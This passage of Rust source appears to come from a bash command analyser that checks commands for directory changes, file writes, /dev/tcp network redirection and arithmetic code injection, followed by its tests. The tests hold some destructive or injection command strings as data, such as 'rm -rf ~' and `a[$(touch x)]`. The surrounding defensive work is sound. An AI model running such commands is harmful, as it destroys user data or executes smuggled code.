        // A `cd` may fail and leave the shell where it was.
        let mut cwds = targets;
        for b in &before {
            if !cwds.contains(b) {
                cwds.push(b.clone());
            }
        }
        if cwds.len() > MAX_CWDS {
            return unanalysable("the command changes directory too many ways to follow");
        }
        self.oldpwd = Some(before);
        self.cwds = cwds;
        Ok(())
    }

    /// `NAME=value` before a command or alone.
    fn assignment(
        &mut self,
        a: &brush_parser::ast::Assignment,
    ) -> Result<EnvAssignment, Unanalysable> {
        use brush_parser::ast::{AssignmentName, AssignmentValue};
        let name = match &a.name {
            AssignmentName::VariableName(n) => n.clone(),
            AssignmentName::ArrayElementName(n, index) => {
                if !inert_arithmetic(index) {
                    return unanalysable(format!(
                        "it assigns `{n}[{index}]`, whose subscript is evaluated as arithmetic"
                    ));
                }
                n.clone()
            }
        };
        let static_value = match &a.value {
            AssignmentValue::Scalar(w) => !self.word(w)?.dynamic,
            AssignmentValue::Array(items) => {
                for (k, v) in items {
                    if let Some(k) = k {
                        let key = self.word(k)?;
                        if key.dynamic || !inert_arithmetic(&key.text) {
                            return unanalysable(format!(
                                "an array element key `[{}]` is evaluated as arithmetic",
                                k.value
                            ));
                        }
                    }
                    self.word(v)?;
                }
                false
            }
        };
        Ok(EnvAssignment { name, static_value })
    }

    fn item(
        &mut self,
        item: &CommandPrefixOrSuffixItem,
        words: &mut Vec<ArgWord>,
    ) -> Result<(), Unanalysable> {
        match item {
            CommandPrefixOrSuffixItem::IoRedirect(r) => self.redirect(r),
            CommandPrefixOrSuffixItem::Word(w) => {
                words.push(self.word(w)?);
                Ok(())
            }
            // `export FOO=bar`, `declare x=1`: an argument word.
            CommandPrefixOrSuffixItem::AssignmentWord(a, w) => {
                // Checks subscripts and array keys, which are evaluated as arithmetic.
                self.assignment(a)?;
                words.push(self.word(w)?);
                Ok(())
            }
            CommandPrefixOrSuffixItem::ProcessSubstitution(_, sub) => {
                let r = self.isolated(|w| w.list(&sub.list));
                words.push(ArgWord {
                    dynamic: true,
                    expands: true,
                    raw: PROCESS_SUBSTITUTION.into(),
                    ..ArgWord::default()
                });
                r
            }
        }
    }

    fn redirect_list(&mut self, r: Option<&RedirectList>) -> Result<(), Unanalysable> {
        for r in r.iter().flat_map(|l| l.0.iter()) {
            self.redirect(r)?;
        }
        Ok(())
    }

    fn redirect(&mut self, r: &IoRedirect) -> Result<(), Unanalysable> {
        match r {
            IoRedirect::File(_, kind, target) => match target {
                IoFileRedirectTarget::Filename(w) => match kind {
                    IoFileRedirectKind::Read => {
                        self.stdin = Stdin::Unknown;
                        let word = self.word(w)?;
                        if self.network(&word) {
                            return Ok(());
                        }
                        self.out.reads.push(FileRead {
                            word,
                            cwd: self.cwds[0].clone(),
                            other_cwds: self.cwds[1..].to_vec(),
                            after_change: self.change,
                        });
                        Ok(())
                    }
                    _ => self.write_target(w),
                },
                IoFileRedirectTarget::Fd(_) => Ok(()),
                IoFileRedirectTarget::Duplicate(w) => {
                    let a = self.word(w)?;
                    let is_fd = !a.dynamic
                        && !a.text.is_empty()
                        && a.text
                            .trim_end_matches('-')
                            .chars()
                            .all(|c| c.is_ascii_digit());
                    if is_fd {
                        Ok(())
                    } else if matches!(kind, IoFileRedirectKind::DuplicateOutput) {
                        // `>&file` is `&>file`.
                        self.write_target(w)
                    } else {
                        unanalysable(format!("it duplicates input from `{}`", w.value))
                    }
                }
                IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                    self.isolated(|w| w.list(&sub.list))
                }
            },
            IoRedirect::HereDocument(_, doc) => {
                if doc.requires_expansion {
                    let pieces = brush_parser::word::parse_heredoc(&doc.doc.value, &self.opts)
                        .map_err(|e| Unanalysable {
                            reason: format!("its here-document could not be parsed ({e})"),
                        })?;
                    let mut acc = Acc {
                        word: ArgWord::default(),
                        pattern: None,
                    };
                    self.pieces(&pieces, true, &mut acc)?;
                    self.stdin = if acc.word.dynamic {
                        Stdin::Unknown
                    } else {
                        Stdin::Static(acc.word.text)
                    };
                } else {
                    self.stdin = Stdin::Static(doc.doc.value.clone());
                }
                Ok(())
            }
            IoRedirect::HereString(_, w) => {
                let a = self.word(w)?;
                self.stdin = if a.dynamic {
                    Stdin::Unknown
                } else {
                    Stdin::Static(a.text)
                };
                Ok(())
            }
            IoRedirect::OutputAndError(w, _) => self.write_target(w),
        }
    }

    /// Whether a redirection word names bash's network pseudo-files (`/dev/tcp/...`,
    /// `/dev/udp/...`), or may (a dynamic word whose known start could lead there); recorded
    /// as network access.
    fn network(&mut self, a: &ArgWord) -> bool {
        let hit = self.cwds.iter().any(|base| {
            let lexical = crate::roots::normalize_lexically(&base.join(&a.text));
            let s = lexical.to_string_lossy();
            let s = if a.text.ends_with('/') && !s.ends_with('/') {
                format!("{s}/")
            } else {
                s.into_owned()
            };
            ["/dev/tcp/", "/dev/udp/"].iter().any(|n| {
                s.starts_with(n) || s == n.trim_end_matches('/') || (a.dynamic && n.starts_with(&s))
            })
        });
        if hit {
            self.out.network.push(a.raw.clone());
        }
        hit
    }

    fn write_target(&mut self, w: &Word) -> Result<(), Unanalysable> {
        let a = self.word(w)?;
        if self.network(&a) {
            return Ok(());
        }
        if a.dynamic {
            return unanalysable(format!(
                "the redirect target `{}` depends on an expansion",
                w.value
            ));
        }
        if matches!(a.text.as_str(), "/dev/null" | "/dev/stdout" | "/dev/stderr") {
            return Ok(());
        }
        if a.text.is_empty() {
            return unanalysable("a redirect target is empty");
        }
        let mut resolved = self
            .cwds
            .iter()
            .map(|b| paths::resolve(b, Path::new(&a.text)));
        let Some(path) = resolved.next() else {
            return Ok(());
        };
        let mut other_paths: Vec<PathBuf> = Vec::new();
        for p in resolved {
            if p != path && !other_paths.contains(&p) {
                other_paths.push(p);
            }
        }
        self.out.writes.push(FileWrite {
            target: a.text,
            path,
            other_paths,
            after_change: self.change,
        });
        self.pending_names = true;
        Ok(())
    }

    /// Unquote a word, analysing any substitutions inside it.
    fn word(&mut self, w: &Word) -> Result<ArgWord, Unanalysable> {
        let pieces = brush_parser::word::parse(&w.value, &self.opts).map_err(|e| Unanalysable {
            reason: format!("the word `{}` could not be parsed ({e})", w.value),
        })?;
        let mut acc = Acc {
            word: ArgWord {
                raw: w.value.clone(),
                ..ArgWord::default()
            },
            pattern: Some(String::new()),
        };
        self.pieces(&pieces, false, &mut acc)?;
        let mut word = acc.word;
        if word.dynamic && !word.expands {
            word.glob = acc.pattern;
        }
        Ok(word)
    }

    fn pieces(
        &mut self,
        pieces: &[WordPieceWithSource],
        in_dq: bool,
        acc: &mut Acc,
    ) -> Result<(), Unanalysable> {
        for p in pieces {
            match &p.piece {
                WordPiece::Text(s) => {
                    let glob_at = if in_dq { None } else { glob_start(s) };
                    match glob_at {
                        Some(i) => {
                            push_static(acc, &s[..i]);
                            acc.word.dynamic = true;
                            acc.word.home_rest = None;
                            if let Some(pat) = &mut acc.pattern {
                                pat.push_str(&s[i..]);
                            }
                        }
                        None if in_dq => push_quoted(acc, s),
                        None => push_static(acc, s),
                    }
                }
                WordPiece::SingleQuotedText(s) => push_quoted(acc, s),
                WordPiece::AnsiCQuotedText(s) => {
                    if s.contains('\\') {
                        expanded(acc, false);
                    } else {
                        push_quoted(acc, s);
                    }
                }
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(inner, true, acc)?;
                }
                WordPiece::TildeExpansion(t) => {
                    let at_start = !acc.word.dynamic && acc.word.text.is_empty();
                    expanded(acc, false);
                    if at_start && matches!(t, brush_parser::word::TildeExpr::Home) {
                        acc.word.home_rest = Some(String::new());
                    }
                }
                WordPiece::ParameterExpansion(expr) => {
                    check_parameter(expr)?;
                    expanded(acc, !in_dq);
                }
                WordPiece::CommandSubstitution(body)
                | WordPiece::BackquotedCommandSubstitution(body) => {
                    let body = body.clone();
                    self.isolated(|w| w.source(&body))?;
                    expanded(acc, !in_dq);
                }
                WordPiece::EscapeSequence(s) => {
                    let rest = s.strip_prefix('\\').unwrap_or(s);
                    if rest == "\n" {
                        // Line continuation.
                    } else if in_dq && !matches!(rest, "$" | "`" | "\"" | "\\") {
                        push_quoted(acc, s);
                    } else {
                        push_quoted(acc, rest);
                    }
                }
                WordPiece::ArithmeticExpression(e) => {
                    if !inert_arithmetic(&e.value) {
                        return unanalysable(format!(
                            "the arithmetic expansion `$(({}))` evaluates something other than numbers (a variable may hold `a[$(cmd)]`, which runs cmd)",
                            e.value
                        ));
                    }
                    expanded(acc, !in_dq);
                }
            }
        }
        Ok(())
    }
}

/// The commands `find -exec`/`-execdir`/`-ok`/`-okdir` runs, with `{}` as a word runner cannot
/// see; the flag is whether it runs in each file's directory (`-execdir`, `-okdir`).
fn find_exec(argv: &[ArgWord]) -> Result<Vec<(Vec<ArgWord>, bool)>, Unanalysable> {
    if argv.first().map(|w| w.text.as_str()) != Some("find") {
        return Ok(vec![]);
    }
    let mut out = Vec::new();
    let mut i = 1;
    while let Some(w) = argv.get(i) {
        i += 1;
        let in_dir = match w.text.as_str() {
            "-exec" | "-ok" => false,
            "-execdir" | "-okdir" => true,
            _ => continue,
        };
        let mut words = Vec::new();
        loop {
            let Some(x) = argv.get(i) else {
                return unanalysable(format!("`find {}` is not terminated by `;` or `+`", w.text));
            };
            i += 1;
            if !x.dynamic
                && (x.text == ";"
                    || (x.text == "+" && words.last().is_some_and(|l: &ArgWord| l.raw == "{}")))
            {
                break;
            }
            if x.text.contains("{}") {
                words.push(ArgWord::unseen(&x.raw));
            } else {
                words.push(x.clone());
            }
        }
        if words.is_empty() {
            return unanalysable(format!("`find {}` names no command", w.text));
        }
        out.push((words, in_dir));
    }
    Ok(out)
}

/// GNU `parallel`'s command, as the shell code it runs for each input (with inputs runner
/// cannot see): its words joined by spaces.
fn parallel_script(argv: &[ArgWord]) -> Result<Option<String>, Unanalysable> {
    let Some(name) = argv.first() else {
        return Ok(None);
    };
    if program::system_name(&name.text) != Some("parallel") {
        return Ok(None);
    }
    let i = match wrappers::parallel_command(&argv[1..]) {
        Ok(k) => k + 1,
        Err(why) => return unanalysable(why.0),
    };
    let mut words = Vec::new();
    for w in &argv[i.min(argv.len())..] {
        if w.text.starts_with(":::") || w.text == "::::" {
            break;
        }
        words.push(w.raw.clone());
    }
    if words.is_empty() {
        return unanalysable("`parallel` without a command runs its input lines as commands");
    }
    Ok(Some(words.join(" ")))
}

/// Whether a simple command has a redirection.
fn has_redirect(s: &SimpleCommand) -> bool {
    s.prefix
        .iter()
        .flat_map(|p| p.0.iter())
        .chain(s.suffix.iter().flat_map(|p| p.0.iter()))
        .any(|i| matches!(i, CommandPrefixOrSuffixItem::IoRedirect(_)))
}

/// The variables `{NAME}>file` redirections assign (bash stores the file descriptor it opened
/// in `NAME`, and keeps it for builtins: `echo x {PATH}>/dev/null` sets `PATH`). The parser
/// reads `{NAME}` as a word, so in a command with redirections every word of that form counts
/// as such an assignment.
fn fd_variables(words: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    for w in words {
        let Some(inner) = w.raw.strip_prefix('{').and_then(|r| r.strip_suffix('}')) else {
            continue;
        };
        let ident_len = inner
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
            .count();
        let starts_ok = inner
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
        let rest = &inner[ident_len..];
        if starts_ok && (rest.is_empty() || (rest.starts_with('[') && rest.ends_with(']'))) {
            out.push(assigned(inner, false)?);
        }
    }
    Ok(out)
}

/// What a builtin's arguments assign: the builtin (its `argv[0]`) and its arguments.
type BuiltinSets = fn(&ArgWord, &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable>;

/// The builtins that assign variables, by name, and how each reads its arguments.
const BUILTIN_SETS: &[(&[&str], BuiltinSets)] = &[
    (&["read"], read_sets),
    (&["printf"], printf_sets),
    (
        &["declare", "typeset", "local", "export", "readonly"],
        declare_sets,
    ),
    (&["mapfile", "readarray"], mapfile_sets),
    (&["getopts"], getopts_sets),
    (&["unset"], unset_sets),
    (&["wait"], wait_sets),
];

/// The error for builtin `name` assigning a variable whose name `w` is only known at run time.
fn dynamic_name(name: &ArgWord, w: &ArgWord) -> Result<(), Unanalysable> {
    unanalysable(format!(
        "`{}` assigns a variable whose name (`{}`) is only known at run time",
        name.text, w.raw
    ))
}

/// `read [-ers] [-a NAME] [-d D -i T -n N -N N -p P -t T -u FD] [NAME…]` (`REPLY` when none).
fn read_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut names = 0;
    while let Some(a) = args.get(i) {
        i += 1;
        if a.dynamic {
            dynamic_name(name, a)?;
        }
        let t = a.text.as_str();
        if t == "--" {
            continue;
        }
        if let Some(opts) = t.strip_prefix('-').filter(|o| !o.is_empty()) {
            for (k, c) in opts.char_indices() {
                if "adinNptu".contains(c) {
                    let v = if k + 1 < opts.len() {
                        opts[k + 1..].to_string()
                    } else {
                        i += 1;
                        args.get(i - 1).map(|w| w.text.clone()).unwrap_or_default()
                    };
                    if c == 'a' {
                        out.push(assigned(&v, false)?);
                        names += 1;
                    }
                    break;
                }
                if !"ers".contains(c) {
                    return unanalysable(format!("`read -{c}` is not understood"));
                }
            }
            continue;
        }
        out.push(assigned(t, false)?);
        names += 1;
    }
    if names == 0 {
        out.push(assigned("REPLY", false)?);
    }
    Ok(out)
}

/// `printf -v NAME …` (or `-vNAME`); an expanded first argument could be `-v NAME`.
fn printf_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a.dynamic {
            if a.expands && a.text.is_empty() {
                return unanalysable(
                    "`printf`'s first argument is expanded at run time and could be `-v NAME`",
                );
            }
            break;
        }
        match a.text.as_str() {
            "-v" => {
                let Some(v) = args.get(i + 1) else { break };
                if v.dynamic {
                    dynamic_name(name, v)?;
                }
                out.push(assigned(&v.text, false)?);
                i += 2;
            }
            t if t.starts_with("-v") => {
                out.push(assigned(&t[2..], false)?);
                i += 1;
            }
            _ => break,
        }
    }
    Ok(out)
}

/// `declare`, `typeset`, `local`, `export`, `readonly`: every `NAME` or `NAME=VALUE`; an
/// option that changes how later assignments are evaluated is unanalysable.
fn declare_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    for a in args {
        if a.dynamic && (a.text.is_empty() || !a.text.contains('=')) {
            dynamic_name(name, a)?;
        }
        let t = a.text.as_str();
        if let Some(opts) = t.strip_prefix('-').or_else(|| t.strip_prefix('+')) {
            if let Some(bad) = opts.chars().find(|c| !"aAgrxltupfF-".contains(*c)) {
                return unanalysable(format!(
                    "`{} -{bad}` changes how later assignments are evaluated",
                    name.text
                ));
            }
            continue;
        }
        let (n, _) = t.split_once('=').unwrap_or((t, ""));
        let static_value = !a.dynamic;
        out.push(assigned(n.trim_end_matches('+'), static_value)?);
    }
    Ok(out)
}

/// `mapfile`/`readarray [-t] [-d D -n N -O O -s S -u FD -c C] [NAME]` (`MAPFILE` when none;
/// `-C` runs code).
fn mapfile_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut named = false;
    while let Some(a) = args.get(i) {
        i += 1;
        if a.dynamic {
            dynamic_name(name, a)?;
        }
        let t = a.text.as_str();
        if let Some(opts) = t.strip_prefix('-').filter(|o| !o.is_empty()) {
            for (k, c) in opts.char_indices() {
                match c {
                    't' => {}
                    'd' | 'n' | 'O' | 's' | 'u' | 'c' => {
                        if k + 1 == opts.len() {
                            i += 1;
                        }
                        break;
                    }
                    _ => {
                        return unanalysable(format!(
                            "`{} -{c}` is not understood (`-C` runs code)",
                            name.text
                        ));
                    }
                }
            }
            continue;
        }
        out.push(assigned(t, false)?);
        named = true;
    }
    if !named {
        out.push(assigned("MAPFILE", false)?);
    }
    Ok(out)
}

/// `getopts OPTSTRING NAME`.
fn getopts_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    if let Some(v) = args.get(1) {
        if v.dynamic {
            dynamic_name(name, v)?;
        }
        out.push(assigned(&v.text, false)?);
    }
    Ok(out)
}

/// `unset [-fnv] NAME…`: each name is set (to nothing).
fn unset_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    for a in args {
        if a.dynamic {
            dynamic_name(name, a)?;
        }
        if a.text.starts_with('-') {
            continue;
        }
        out.push(assigned(&a.text, true)?);
    }
    Ok(out)
}

/// `wait -p NAME`.
fn wait_sets(name: &ArgWord, args: &[ArgWord]) -> Result<Vec<EnvAssignment>, Unanalysable> {
    let mut out = Vec::new();
    for (i, a) in args.iter().enumerate() {
        if a.text == "-p" {
            let Some(v) = args.get(i + 1) else { break };
            if v.dynamic {
                dynamic_name(name, v)?;
            }
            out.push(assigned(&v.text, false)?);
        }
    }
    Ok(out)
}

/// A variable a builtin assigns: `name` must be a plain identifier (an array element's
/// subscript is evaluated as arithmetic).
fn assigned(name: &str, static_value: bool) -> Result<EnvAssignment, Unanalysable> {
    let base = match name.split_once('[') {
        Some((n, rest)) => {
            let index = rest.strip_suffix(']').unwrap_or(rest);
            if !inert_arithmetic(index) {
                return unanalysable(format!(
                    "it assigns `{name}`, whose subscript is evaluated as arithmetic"
                ));
            }
            n
        }
        None => name,
    };
    let mut c = base.chars();
    if !(c
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && c.all(|c| c.is_ascii_alphanumeric() || c == '_'))
    {
        return unanalysable(format!("it assigns `{name}`, which is not a variable name"));
    }
    Ok(EnvAssignment {
        name: base.to_string(),
        static_value,
    })
}

/// Whether an arithmetic expression holds only numbers and operators: no variable (whose value
/// would itself be evaluated, and may be `a[$(cmd)]`), no expansion, no subscript.
pub fn inert_arithmetic(expr: &str) -> bool {
    let mut chars = expr.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '0'..='9' => {
                // A number: decimal, 0x.., 0.., or base#digits (digits may be letters, @, _).
                while chars
                    .peek()
                    .is_some_and(|c| c.is_ascii_alphanumeric() || matches!(c, '#' | '@' | '_'))
                {
                    chars.next();
                }
            }
            ' ' | '\t' | '\n' | '+' | '-' | '*' | '/' | '%' | '<' | '>' | '=' | '!' | '&' | '|'
            | '^' | '~' | '?' | ':' | ',' | '(' | ')' => {}
            _ => return false,
        }
    }
    true
}

/// Where unquoted text starts being a pattern: `*`, `?`, `[...]`, `{a,b}`/`{1..3}` brace
/// expansion, or an extglob `(`. A lone `[` or `{}` is literal.
fn glob_start(s: &str) -> Option<usize> {
    for (i, c) in s.char_indices() {
        let rest = &s[i + c.len_utf8()..];
        let hit = match c {
            '*' | '?' | '(' => true,
            '[' => rest.contains(']'),
            '{' => rest
                .find('}')
                .is_some_and(|end| rest[..end].contains(',') || rest[..end].contains("..")),
            _ => false,
        };
        if hit {
            return Some(i);
        }
    }
    None
}

fn push_static(acc: &mut Acc, s: &str) {
    let w = &mut acc.word;
    if let Some(rest) = &mut w.home_rest {
        rest.push_str(s);
    }
    if !w.dynamic {
        w.text.push_str(s);
    }
    if let Some(pat) = &mut acc.pattern {
        pat.push_str(s);
    }
}

/// Static text that came from quotes: glob characters in it are literal.
fn push_quoted(acc: &mut Acc, s: &str) {
    let w = &mut acc.word;
    if let Some(rest) = &mut w.home_rest {
        rest.push_str(s);
    }
    if !w.dynamic {
        w.text.push_str(s);
    }
    if let Some(pat) = &mut acc.pattern {
        for c in s.chars() {
            if matches!(
                c,
                '*' | '?' | '[' | ']' | '{' | '}' | ',' | '\\' | '(' | ')'
            ) {
                pat.push('\\');
            }
            pat.push(c);
        }
    }
}

/// Mark `acc` as holding a run-time expansion (not just a glob); `splits` when unquoted.
fn expanded(acc: &mut Acc, splits: bool) {
    let w = &mut acc.word;
    w.dynamic = true;
    w.expands = true;
    w.splits |= splits;
    w.home_rest = None;
    acc.pattern = None;
}

/// Whether a string nested in `${...}` (a default, a pattern, a replacement) holds code: a
/// substitution, an arithmetic expansion or a nested `${...}` (which could be indirect or
/// subscripted).
fn nested_code(s: &str) -> bool {
    s.contains("$(")
        || s.contains('`')
        || s.contains("<(")
        || s.contains(">(")
        || s.contains("${")
        || s.contains("$[")
}

/// `${...}` forms: plain reads are fine; assignment, prompt expansion, indirection, arithmetic
/// over anything but numbers (subscripts, substring offsets) and nested code are not.
fn check_parameter(expr: &ParameterExpr) -> Result<(), Unanalysable> {
    use ParameterExpr as P;
    let (parameter, indirect, nested): (Option<&Parameter>, bool, Vec<&str>) = match expr {
        P::Parameter {
            parameter,
            indirect,
        }
        | P::ParameterLength {
            parameter,
            indirect,
        } => (Some(parameter), *indirect, vec![]),
        P::UseDefaultValues {
            parameter,
            indirect,
            default_value,
            ..
        } => (
            Some(parameter),
            *indirect,
            default_value.iter().map(String::as_str).collect(),
        ),
        P::AssignDefaultValues { .. } => {
            return unanalysable("a `${name:=value}` expansion assigns a variable");
        }
        P::IndicateErrorIfNullOrUnset {
            parameter,
            indirect,
            error_message,
            ..
        } => (
            Some(parameter),
            *indirect,
            error_message.iter().map(String::as_str).collect(),
        ),
        P::UseAlternativeValue {
            parameter,
            indirect,
            alternative_value,
            ..
        } => (
            Some(parameter),
            *indirect,
            alternative_value.iter().map(String::as_str).collect(),
        ),
        P::RemoveSmallestSuffixPattern {
            parameter,
            indirect,
            pattern,
        }
        | P::RemoveLargestSuffixPattern {
            parameter,
            indirect,
            pattern,
        }
        | P::RemoveSmallestPrefixPattern {
            parameter,
            indirect,
            pattern,
        }
        | P::RemoveLargestPrefixPattern {
            parameter,
            indirect,
            pattern,
        }
        | P::UppercaseFirstChar {
            parameter,
            indirect,
            pattern,
        }
        | P::UppercasePattern {
            parameter,
            indirect,
            pattern,
        }
        | P::LowercaseFirstChar {
            parameter,
            indirect,
            pattern,
        }
        | P::LowercasePattern {
            parameter,
            indirect,
            pattern,
        } => (
            Some(parameter),
            *indirect,
            pattern.iter().map(String::as_str).collect(),
        ),
        P::Substring {
            parameter,
            indirect,
            offset,
            length,
        } => {
            for e in std::iter::once(offset).chain(length.iter()) {
                if !inert_arithmetic(&e.value) {
                    return unanalysable(format!(
                        "a substring offset `{}` is evaluated as arithmetic over something other than numbers",
                        e.value
                    ));
                }
            }
            (Some(parameter), *indirect, vec![])
        }
        P::Transform { .. } => {
            return unanalysable("a `${name@op}` transformation is not analysed");
        }
        P::ReplaceSubstring {
            parameter,
            indirect,
            pattern,
            replacement,
            ..
        } => {
            let mut n = vec![pattern.as_str()];
            n.extend(replacement.iter().map(String::as_str));
            (Some(parameter), *indirect, n)
        }
        // `${!prefix*}` and `${!array[@]}` list names and keys; nothing is evaluated.
        P::VariableNames { .. } | P::MemberKeys { .. } => (None, false, vec![]),
    };
    if indirect {
        return unanalysable(
            "an indirect expansion `${!name}` evaluates the value of a variable as a name (it may hold `a[$(cmd)]`)",
        );
    }
    if let Some(Parameter::NamedWithIndex { name, index }) = parameter
        && !inert_arithmetic(index)
    {
        return unanalysable(format!(
            "the subscript of `${{{name}[{index}]}}` is evaluated as arithmetic over something other than numbers"
        ));
    }
    if let Some(s) = nested.iter().find(|s| nested_code(s)) {
        return unanalysable(format!(
            "a `${{...}}` expansion contains a substitution or a nested expansion (`{s}`)"
        ));
    }
    Ok(())
}

/// The shell name of `argv` when it is a shell other than bash that runs code (a `-c` script,
/// a script file, or commands from its input). Names are compared the way shells are installed:
/// path-qualified, with a version suffix (`zsh-5.9`, `ksh93`, `python3.12`-style dots) and as
/// restricted variants (`rzsh`, `rksh`).
fn foreign_shell(argv: &[ArgWord]) -> Option<String> {
    let name = argv.first()?;
    let base = program::system_name(&name.text).unwrap_or_default();
    foreign_shell_name(base).map(str::to_string)
}

/// The foreign shell `base` (a program's file name) is, if any.
fn foreign_shell_name(base: &str) -> Option<&'static str> {
    let stem =
        base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.' || c == '-' || c == '_');
    let restricted = stem.strip_prefix('r');
    FOREIGN_SHELLS
        .iter()
        .find(|s| **s == stem || restricted == Some(**s))
        .copied()
}

/// Whether a multi-call binary (`busybox`, `toybox`) wraps the command: its `sh` is ash, not
/// bash.
fn multicall_shell(layers: &[Layer], argv: &[ArgWord]) -> Option<String> {
    let name = argv.first()?;
    let base = program::system_name(&name.text).unwrap_or_default();
    let wrapped = layers
        .iter()
        .any(|l| matches!(l.name.rsplit('/').next(), Some("busybox" | "toybox")));
    (wrapped && invocation::SHELLS.contains(&base)).then(|| format!("busybox {base}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(a: &Analysis) -> Vec<String> {
        a.commands.iter().map(|c| c.match_text(c.start).0).collect()
    }

    fn w() -> &'static Path {
        Path::new("/w")
    }

    #[test]
    fn splits_every_operator_and_newline() {
        let a = analyse(
            "echo a | echo b | echo c\nrm -rf ~ && echo d; x || y & z |& w",
            w(),
        )
        .unwrap();
        assert_eq!(
            names(&a),
            vec![
                "echo a", "echo b", "echo c", "rm -rf ", "echo d", "x", "y", "z", "w"
            ]
        );
    }

    #[test]
    fn substitutions_are_analysed() {
        let a = analyse("echo \"$(rm -rf x)\" `id` <(ls)", w()).unwrap();
        assert_eq!(names(&a), vec!["rm -rf x", "id", "ls", "echo "]);
    }

    #[test]
    fn unquoting_and_wrappers() {
        let a = analyse("timeout 10 nice -n 5 'git' \"diff\" a\\ b", w()).unwrap();
        let c = &a.commands[0];
        assert_eq!(c.start, 5);
        assert_eq!(c.match_text(c.start), ("git diff a b".to_string(), false));
        let layers: Vec<&str> = c.layers.iter().map(|l| l.name.as_str()).collect();
        assert_eq!(layers, ["timeout", "nice"]);
    }

    #[test]
    fn redirect_targets_follow_cd() {
        let a = analyse("cd sub && echo x > out.txt 2>/dev/null", w()).unwrap();
        assert_eq!(a.writes.len(), 1);
        assert_eq!(a.writes[0].path, PathBuf::from("/w/sub/out.txt"));
        assert_eq!(a.writes[0].other_paths, vec![PathBuf::from("/w/out.txt")]);
    }

    #[test]
    fn every_possible_directory_is_kept() {
        let a = analyse("cd a; cd b; cat x", w()).unwrap();
        let c = a.commands.last().unwrap();
        let all: Vec<&Path> = c.cwds().collect();
        for d in ["/w/a/b", "/w/b", "/w/a", "/w"] {
            assert!(all.contains(&Path::new(d)), "{d} missing from {all:?}");
        }
        let a = analyse("cd -P sub && cd - && pushd x && popd && cat y", w()).unwrap();
        assert!(
            a.commands
                .last()
                .unwrap()
                .cwds()
                .any(|d| d == Path::new("/w"))
        );
    }

    #[test]
    fn untracked_directory_changes_are_refused() {
        for cmd in [
            "cd",
            "cd ~",
            "cd ~/x",
            "cd $X",
            "cd -",
            "cd a b",
            "pushd",
            "pushd +1",
            "popd",
            "popd +1",
            "cd -e",
            "for d in a b; do cd $d; done",
            "while true; do cd sub; done",
            "for d in a b; do cd sub; done; cat x",
            "command cd",
            "builtin cd ~",
        ] {
            assert!(analyse(cmd, w()).is_err(), "{cmd}");
        }
    }

    #[test]
    fn arithmetic_over_anything_but_numbers_is_refused() {
        for cmd in [
            "V='a[$(touch x)]'; echo $((V))",
            "echo $((V+1))",
            "echo $[V]",
            "echo ${A[V]}",
            "echo ${A[$i]}",
            "echo ${X:V}",
            "echo ${X:1:n}",
            "echo ${!X}",
            "echo ${!X:-a}",
            "echo \"${x:-${!y}}\"",
            "echo ${x:-$((V))}",
            "a[V]=1",
            "a=([V]=1)",
            "declare 'a[V]=1'",
            "printf -v 'a[V]' x",
            "read 'a[V]'",
            "unset 'a[V]'",
            "let x=V",
            "declare -i n; n=V",
            "declare -n r=PATH",
            "(( V ))",
            "for ((i=0;i<V;i++)); do :; done",
            "[[ $V -eq 1 ]]",
            "[[ -v a[V] ]]",
            "cat <<EOF\n$((V))\nEOF",
            "echo ${x@P}",
        ] {
            assert!(analyse(cmd, w()).is_err(), "{cmd}");
        }
        for cmd in [
            "echo $((1+2)) $[3*4] $((16#ff)) $((0x1F))",
            "echo ${A[0]} ${A[@]} ${!A[@]} ${!pre*} ${#x} ${x:1:2} ${x: -1}",
            "echo ${x:-default} ${x#*/} ${x/a/b} ${x^^}",
        ] {
            assert!(analyse(cmd, w()).is_ok(), "{cmd}: {:?}", analyse(cmd, w()));
        }
    }

    #[test]
    fn every_assignment_form_is_seen() {
        let sets = |cmd: &str| -> Vec<String> {
            let a = analyse(cmd, w()).unwrap();
            let mut out: Vec<String> = a.loop_variables.iter().map(|v| v.name.clone()).collect();
            for c in &a.commands {
                out.extend(c.sets.iter().map(|v| v.name.clone()));
                out.extend(c.assignments.iter().map(|v| v.name.clone()));
            }
            out
        };
        assert_eq!(sets("for PATH in bin; do ls; done"), ["PATH"]);
        assert_eq!(sets("read HOME < f"), ["HOME"]);
        assert_eq!(sets("read -r a b"), ["a", "b"]);
        assert_eq!(sets("read"), ["REPLY"]);
        assert_eq!(sets("read -a arr -p x"), ["arr"]);
        assert_eq!(sets("printf -v PATH %s /tmp"), ["PATH"]);
        assert_eq!(sets("declare -x PATH=/tmp"), ["PATH"]);
        assert_eq!(sets("export GIT_DIR=x FOO"), ["GIT_DIR", "FOO"]);
        assert_eq!(sets("local x=1"), ["x"]);
        assert_eq!(sets("readonly IFS"), ["IFS"]);
        assert_eq!(sets("mapfile -t LD_PRELOAD < f"), ["LD_PRELOAD"]);
        assert_eq!(sets("readarray lines < f"), ["lines"]);
        assert_eq!(sets("getopts ab PATH"), ["PATH"]);
        assert_eq!(sets("unset HOME"), ["HOME"]);
